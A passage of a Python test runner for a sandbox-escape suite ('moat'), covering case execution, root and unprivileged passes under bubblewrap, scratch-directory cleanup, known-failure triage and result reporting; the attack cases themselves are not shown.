    directory is left under $XDG_RUNTIME_DIR/moat."""
    c.moat_only("moat's session directories")
    c.sh("true")
    c.sh("exit 4")
    c.sh("kill -KILL $$")
    base = os.path.join(c.rundir, "moat")
    left = os.listdir(base) if os.path.isdir(base) else []
    expect(not left, "left under $XDG_RUNTIME_DIR/moat: %s" % left)


# --- passes ---------------------------------------------------------------------------------------

class Suite:
    def __init__(self, moat, helpers, verbose=False, runtime="moat", srt=None):
        self.moat, self.helpers, self.verbose = moat, helpers, verbose
        self.runtime, self.srt = runtime, srt
        self.runtime_root, self.count, self.lock = None, 0, threading.Lock()

    def launcher(self, scene, policy, args, command):
        """The argv (before the identity's prefix) that runs `command` confined by `policy`."""
        if self.runtime == "moat":
            return [self.moat, "run", *(["--policy=" + policy] if policy else []), *args, "--", *command]
        if args or not policy:
            raise NotApplicable("moat-only flags: %s" % " ".join(args or ["(no policy)"]))
        settings = policy[:-len(".moat")] + ".srt.json"
        if not os.path.exists(settings):
            build = subprocess.run(
                [self.moat, "build", "--target=srt", "--format=linux", "-o", settings, "--define=HOME=" + scene.home,
                 "--define=CWD=" + scene.cwd, "--define=TMPDIR=" + scene.tmp, policy],
                stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=RUN_TIMEOUT)
            if build.returncode != 0 or not os.path.exists(settings):
                errors = [l for l in build.stderr.splitlines() if "error" in l] or build.stderr.splitlines() or ["?"]
                raise NotApplicable("moat build --target=srt refuses the policy: %s" % errors[0].strip())
            scene.identity.own(settings)
        # srt gives the command TMPDIR=$CLAUDE_CODE_TMPDIR (the scene's), and makes its own
        # unix sockets in its TMPDIR: a short directory of the pass (108-byte limit).
        return ["/usr/bin/env", "TMPDIR=" + scene.rundir, "CLAUDE_CODE_TMPDIR=" + scene.tmp,
                shutil.which("node") or "node", self.srt, "--settings", settings, "--", *command]

    def short_dir(self, mode):
        """A fresh directory with a short path, under runtime_root."""
        with self.lock:
            self.count += 1
            path = os.path.join(self.runtime_root, str(self.count))
        os.mkdir(path)
        os.chmod(path, mode)
        return path


def run_case(suite, identity, pass_dir, case):
    """Runs one case in a fresh scene; returns (status, detail, seconds)."""
    started = time.monotonic()
    directory = os.path.join(pass_dir, case.name)
    os.makedirs(directory)
    scene, status, detail = None, "ERROR", "interrupted"
    try:
        scene = Scene(suite, identity, directory)
        case.function(scene, **case.params)
        if case.kind == "attack":
            scene.expect_invariants()
        status, detail = "PASS", ""
    except Skip as e:
        status, detail = "SKIP", str(e)
    except NotApplicable as e:
        status, detail = "n/a", str(e)
    except Fail as e:
        status, detail = "FAIL", str(e)
    except Exception:
        status, detail = "ERROR", traceback.format_exc(limit=3)
    finally:
        if scene:
            scene.close()
            if suite.verbose:
                print("== %s [%s]: %s\n%s" % (case.name, identity.label, status, "\n".join(
                    "-- %r\n   stdout=%r" % (r, r.out[:2000]) for r in scene.runs)), flush=True)
            remove_tree(scene.rundir)
            remove_tree(scene.sockdir)
        remove_tree(directory)
    return status, detail, time.monotonic() - started


def remove_tree(path):
    """Removes a scratch tree, also where an attack took permissions away."""
    def retry(function, p, _):
        for d in (os.path.dirname(p), p):
            if os.path.isdir(d) and not os.path.islink(d):
                os.chmod(d, 0o700)
        function(p)
    if os.path.lexists(path):
        shutil.rmtree(path, onerror=retry)


def run_pass(suite, identity, base, cases, jobs):
    pass_dir = tempfile.mkdtemp(prefix="%s-" % identity.label, dir=base)
    os.chmod(pass_dir, 0o755)
    results = {}
    try:
        with concurrent.futures.ThreadPoolExecutor(max_workers=jobs) as pool:
            futures = {pool.submit(run_case, suite, identity, pass_dir, c): c for c in cases}
            for future in concurrent.futures.as_completed(futures):
                case = futures[future]
                results[case.name] = future.result()
                status, detail, _ = results[case.name]
                if status not in ("PASS", "SKIP", "n/a"):
                    print("  %s %s [%s]: %s" % (status, case.name, identity.label, detail.strip()), flush=True)
    finally:
        remove_tree(pass_dir)
    return results


def can_sandbox(identity):
    """Can bubblewrap create namespaces as this user?"""
    cmd = identity.wrap({"PATH": SAFE_PATH}) + ["bwrap", "--unshare-all", "--ro-bind", "/", "/", "true"]
    return subprocess.run(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=30).returncode == 0


def reachable(identity, path):
    """Can this user reach `path` (every directory above it searchable)?"""
    cmd = identity.wrap({"PATH": SAFE_PATH}) + ["test", "-e", path]
    return subprocess.run(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=30).returncode == 0


def stage_binary(path, staging):
    """A world-readable copy of an executable in `staging`; returns its path."""
    copy = os.path.join(staging, os.path.basename(path))
    shutil.copy2(path, copy)
    os.chmod(copy, 0o755)
    return copy


def load_known_failures(path):
    """Names (`case`, `root:case` or `unprivileged:case`) expected to fail, for local triage."""
    known = set()
    if path:
        with open(path) as f:
            known = {line.split("#")[0].strip() for line in f} - {""}
    return known


def verdict(results, known, identity, case):
    """A case's status in a pass, with XFAIL/XPASS for listed known failures."""
    status = results[identity.label][case.name][0]
    if "%s:%s" % (identity.label, case.name) in known or case.name in known:
        return {"PASS": "XPASS", "FAIL": "XFAIL", "ERROR": "XFAIL"}.get(status, status)
    return status


def report(cases, passes, results, known, seconds):
    """Prints the table and the failures; returns the exit status."""
    width = max(len(c.name) for c in cases)
    header = "%-*s  %-7s" % (width, "case", "kind") + "".join("  %-12s" % p.label for p in passes)
    print("\n" + header + "\n" + "-" * len(header))
    for c in cases:
        print("%-*s  %-7s" % (width, c.name, c.kind) + "".join("  %-12s" % verdict(results, known, p, c)
                                                             for p in passes))
    counts, failed, skipped = {}, [], set()
    for p in passes:
        for c in cases:
            status, detail = verdict(results, known, p, c), results[p.label][c.name][1]
            counts[status] = counts.get(status, 0) + 1
            if status in ("FAIL", "ERROR"):
                failed.append("%s %s [%s]: %s" % (status, c.name, p.label, detail.strip()))
            elif status == "XPASS":
                failed.append("XPASS %s [%s]: listed as a known failure but passed: remove it" % (c.name, p.label))
            elif status == "SKIP":
                skipped.add("SKIP %s: %s" % (c.name, detail))
            elif status == "n/a":
                skipped.add("n/a %s [%s]: %s" % (c.name, p.label, detail))
    attacks = sum(c.kind == "attack" for c in cases)
    print("\n%d attacks, %d controls, %d pass(es) in %.1f s: %s" % (
        attacks, len(cases) - attacks, len(passes), seconds,
        ", ".join("%d %s" % (n, s) for s, n in sorted(counts.items()))))
    for line in failed + sorted(skipped):
        print(line)
    return 1 if failed or not passes else 0


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--moat", required=True)
    parser.add_argument("--helper", action="append", default=[], metavar="NAME=PATH")
    parser.add_argument("--base-dir", help="where scratch trees go (a fresh directory is made inside)")
    parser.add_argument("--pass", dest="passes", choices=["root", "unprivileged", "both"], default="both")
    parser.add_argument("--only", action="append", help="run only cases matching this glob")
    parser.add_argument("--jobs", type=int, default=4)
    parser.add_argument("--known-failures",
                        help="file of case names (or root:NAME, unprivileged:NAME) expected to fail, for triage")
    parser.add_argument("--list", action="store_true", help="list the cases and exit")
    parser.add_argument("--verbose", action="store_true", help="print every run's output (triage)")
    parser.add_argument("--runtime", choices=["moat", "srt"], default="moat",
                        help="the sandbox the cases run under (default moat; srt needs --srt)")
    parser.add_argument("--srt", metavar="CLI.js", help="sandbox-runtime's cli.js, run with node (--runtime srt)")
    args = parser.parse_args()

    cases = [c for c in CASES if not args.only or any(fnmatch.fnmatch(c.name, g) for g in args.only)]
    if not cases:
        parser.error("no case matches --only")
    if args.list:
        for c in CASES:
            print("%-40s %-7s %s" % (c.name, c.kind, c.doc.splitlines()[0]))
        return 0
    helpers = dict(h.split("=", 1) for h in args.helper)
    missing = [h for h in HELPERS if not os.access(helpers.get(h, ""), os.X_OK)]
    if missing:
        parser.error("missing --helper for: %s" % ", ".join(missing))
    if args.runtime == "srt" and not (args.srt and os.path.isfile(args.srt)):
        parser.error("--runtime srt needs --srt PATH/TO/cli.js")
    suite = Suite(os.path.abspath(args.moat), {k: os.path.abspath(v) for k, v in helpers.items()}, args.verbose,
                  args.runtime, args.srt and os.path.abspath(args.srt))

    root = os.geteuid() == 0
    me = Identity("root" if root else "user", os.geteuid(), os.getegid())
    # Not root: the only pass is the unprivileged one, as the current user.
    nobody = Identity("unprivileged", 65534, 65534) if root else Identity("unprivileged", me.uid, me.gid)
    if not can_sandbox(me):
        print("bubblewrap cannot create namespaces here: skipping")
        return SKIP
    passes = []
    if root and args.passes in ("root", "both"):
        passes.append(me)
    if args.passes in ("unprivileged", "both"):
        if can_sandbox(nobody):
            passes.append(nobody)
        else:
            print("NOTE: bubblewrap cannot create namespaces as uid %d: the unprivileged pass is not run"
                  % nobody.uid)
    known = load_known_failures(args.known_failures)

    base_parent = args.base_dir or os.path.dirname(os.path.dirname(suite.moat))
    staging = None
    if any(p.uid != os.geteuid() for p in passes) and not all(
            reachable(p, path) for p in passes for path in [suite.moat, base_parent, *suite.helpers.values()]):
        # A checkout under a private directory (/root is 0700): the other
        # user could neither run moat nor enter the scratch tree. Stage the
        # binaries and the scratch trees in a directory both can reach.
        staging = tempfile.mkdtemp(prefix="moat-escape-stage-", dir="/var/tmp")
        os.chmod(staging, 0o755)
        suite.moat = stage_binary(suite.moat, staging)
        suite.helpers = {k: stage_binary(v, staging) for k, v in suite.helpers.items()}
        base_parent = staging
    base = tempfile.mkdtemp(prefix="escape-", dir=base_parent)
    os.chmod(base, 0o755)
    # The suite's own unix sockets need short paths (sun_path is 108 bytes):
    # under /tmp if the base is too deep.
    suite.runtime_root = os.path.join(base, "r")
    if len(suite.runtime_root) > 48:
        suite.runtime_root = tempfile.mkdtemp(prefix="moat-escape-")
    else:
        os.mkdir(suite.runtime_root)
    os.chmod(suite.runtime_root, 0o755)
    results, started = {}, time.monotonic()
    try:
        for identity in passes:
            t0 = time.monotonic()
            print("pass %s: %d cases" % (identity.label, len(cases)), flush=True)
            results[identity.label] = run_pass(suite, identity, base, cases, args.jobs)
            print("pass %s: %.1f s" % (identity.label, time.monotonic() - t0), flush=True)
    finally:
        remove_tree(base)
        if os.path.exists(suite.runtime_root):
            remove_tree(suite.runtime_root)
        if staging:
            remove_tree(staging)
    return report(cases, passes, results, known, time.monotonic() - started)


if __name__ == "__main__":
    sys.exit(main())
